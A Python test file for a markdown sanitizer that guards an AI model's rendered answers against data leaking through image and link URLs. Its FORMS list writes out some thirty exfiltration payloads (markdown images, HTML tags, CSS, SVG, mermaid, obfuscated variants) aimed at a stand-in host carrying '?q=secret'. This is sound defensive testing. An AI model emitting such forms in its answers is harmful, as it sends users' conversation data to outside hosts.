"""A12: what was said leaves as part of an image's address, which whoever shows the answer loads.

Control: `core.markdown.safe`: no images, no links but to files of the workspace, no HTML, no pictures drawn from text.
"""

import re
from pathlib import Path

import pytest

from hearth.core.markdown import Safe, safe, workspace_links

HOST = "canary.example"
URL = f"https://{HOST}/?q=secret"
FORMS = (
    f"![x]({URL})", f"![x][1]\n\n[1]: {URL}", f"![]({URL} 'title')", f"[![x]({URL})]({URL})", f"<img src={URL}>",
    f'<img src="{URL}"/>', f"<picture><source srcset='{URL}'></picture>", f"![x](<{URL}>)", f"[x]({URL})",
    f"[x][1]\n[1]: <{URL}>", f"<{URL}>", f"!\\[x]({URL})", f"> ![x]({URL})", f"- ![x]({URL})",
    f"| a |\n| - |\n| ![x]({URL}) |", f"```mermaid\ngraph LR; A-->B; click A \"{URL}\"\n```",
    f"```svg\n<svg><image href='{URL}'/></svg>\n```", f"![x](//{HOST}/a.png)", f"![x](http:\\\\{HOST}\\a)",
    f"![x](data:image/svg+xml,<svg><image href='{URL}'/></svg>)", f"<link rel=prefetch href={URL}>",
    f"<iframe src={URL}></iframe>", f"[x](command:hearth.ask?{URL})", f"![x\n]({URL})", f"!\u200b[x]({URL})",
    f"<style>a{{background:url({URL})}}</style>", f"$$\\includegraphics{{{URL}}}$$", f"[^1]\n\n[^1]: ![x]({URL})",
    f"# ![x]({URL})", f"**![x]({URL})**", f"&#33;[x]({URL})", f"`` ` `` ![x]({URL})", f"~~~\n~~~\n![x]({URL})",
)  # fmt: skip
ACTIVE = re.compile(r"!\[|\]\(|\]:|<[A-Za-z/!?]|\]\[")


def outside_code(text: str) -> str:
    """What a renderer does not show as it is."""
    bare = re.sub(r"(?ms)^(`{3,}|~{3,})(?!mermaid|svg|html|math)[^\n]*\n.*?^\1[`~]*$", "", text)
    bare = re.sub(r"(?<![`\\])(`+)(?!`).+?(?<!`)\1(?!`)", "", bare)
    return re.sub(r"\\[!-/:-@\[-`{-~]", "", bare)  # a backslash makes text of what follows


@pytest.mark.parametrize("answer", FORMS)
def test_nothing_that_loads_is_left(answer: str, tmp_path: Path) -> None:
    links = workspace_links([str(tmp_path)])
    shown = outside_code(safe(f"Look:\n\n{answer}\n\nDone.", links))
    assert HOST not in shown or not ACTIVE.search(shown), shown
    streamed = Safe(links)
    for char in answer:
        streamed.feed(char)
        assert not ACTIVE.search(outside_code(streamed.text)), streamed.text
    streamed.end()


def test_links_to_files_of_the_workspace_are_left(tmp_path: Path) -> None:
    links = workspace_links([str(tmp_path)])
    assert "](file://" in safe("See [a](src/a.py#L3).", links)
